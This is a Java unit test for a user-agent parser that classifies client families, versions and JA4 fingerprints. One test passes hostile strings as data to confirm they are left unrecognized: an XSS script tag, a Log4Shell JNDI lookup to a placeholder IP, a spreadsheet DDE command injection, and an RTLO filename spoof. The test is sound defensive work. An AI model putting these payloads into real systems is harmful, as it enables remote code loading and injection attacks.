package dev.warder.enrich.agent;

import static org.assertj.core.api.Assertions.assertThat;

import dev.warder.model.Activity;
import dev.warder.model.Client;
import dev.warder.model.ClientKind;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvFileSource;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class UserAgentsTest {

  private static final UserAgents AGENTS = UserAgents.standard();

  @ParameterizedTest
  @CsvFileSource(resources = "agents.tsv", delimiter = '\t', quoteCharacter = '\0', emptyValue = "")
  void agentsOfRealLogsAreTold(String family, String version, ClientKind kind, String userAgent) {
    Client client = AGENTS.client(userAgent, "");
    assertThat(client.family()).isEqualTo(family);
    assertThat(client.version()).isEqualTo("-".equals(version) ? "" : version);
    assertThat(client.kind()).isEqualTo(kind);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "psa-bridge/1.7.0|psa-bridge/1.7.1",
        "Orgdir_PowerShell.2.17.0|Orgdir_PowerShell.2.16.2",
        "Manticore 0.9.1|Manticore 0.10.0-SNAPSHOT",
        "Faraday v2.12.2|Faraday v3",
        "aws-cli/2.13.0 Python/3.11.4|aws-cli/2.15.59 md/awscrt#0.19.19 ua/2.0",
      })
  void familyStaysTheSameAcrossVersions(String one, String other) {
    assertThat(AGENTS.client(one, "").family()).isEqualTo(AGENTS.client(other, "").family());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "${jndi:ldap://192.0.2.1/a}",
        "=cmd|' /C calc'!A0",
        "\u202egnp.exe",
        "68319f60-9dec-43b2-9702-de3a08c9d8a3",
        "f47ac10b-58cc-4372-a567-0e02b2c3d479",
        "\u001b[2J",
        "((((",
        "))))",
        "/",
        "///1.0",
        "[",
        "1.2.3",
        "\ud83d\ude00",
      })
  void whatNamesNoProductIsUnrecognized(String userAgent) {
    Client client = AGENTS.client(userAgent, "");
    assertThat(client.family()).isEqualTo(UserAgents.UNRECOGNIZED);
    assertThat(client.userAgent()).isEqualTo(userAgent);
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "  ", "-", "Unknown"})
  void absentAgentIsUnknown(String userAgent) {
    assertThat(AGENTS.client(userAgent, "").family()).isEqualTo(Client.UNKNOWN.family());
  }

  @Test
  void everyTextIsBounded() {
    Client client =
        AGENTS.client("a".repeat(100_000) + "/" + "1".repeat(100_000), "x".repeat(1_000));
    assertThat(client.family()).hasSize(256);
    assertThat(client.version()).hasSizeLessThanOrEqualTo(32);
    assertThat(client.userAgent()).hasSize(Activity.MAX_TEXT);
    assertThat(client.ja4()).hasSize(64);
  }

  @Test
  void productsOfOneAgentAreBounded() {
    assertThat(AgentScanner.scan("a/1 ".repeat(1_000))).hasSize(AgentScanner.MAX_PRODUCTS);
  }

  @Test
  void fingerprintIsKeptBesideTheAgent() {
    Client client = AGENTS.client("", "t13d2014h1_0e308ec9e2d9_5713fe176a25");
    assertThat(client.ja4()).isEqualTo("t13d2014h1_0e308ec9e2d9_5713fe176a25");
    assertThat(client.kind()).isEqualTo(ClientKind.UNKNOWN);
  }
}
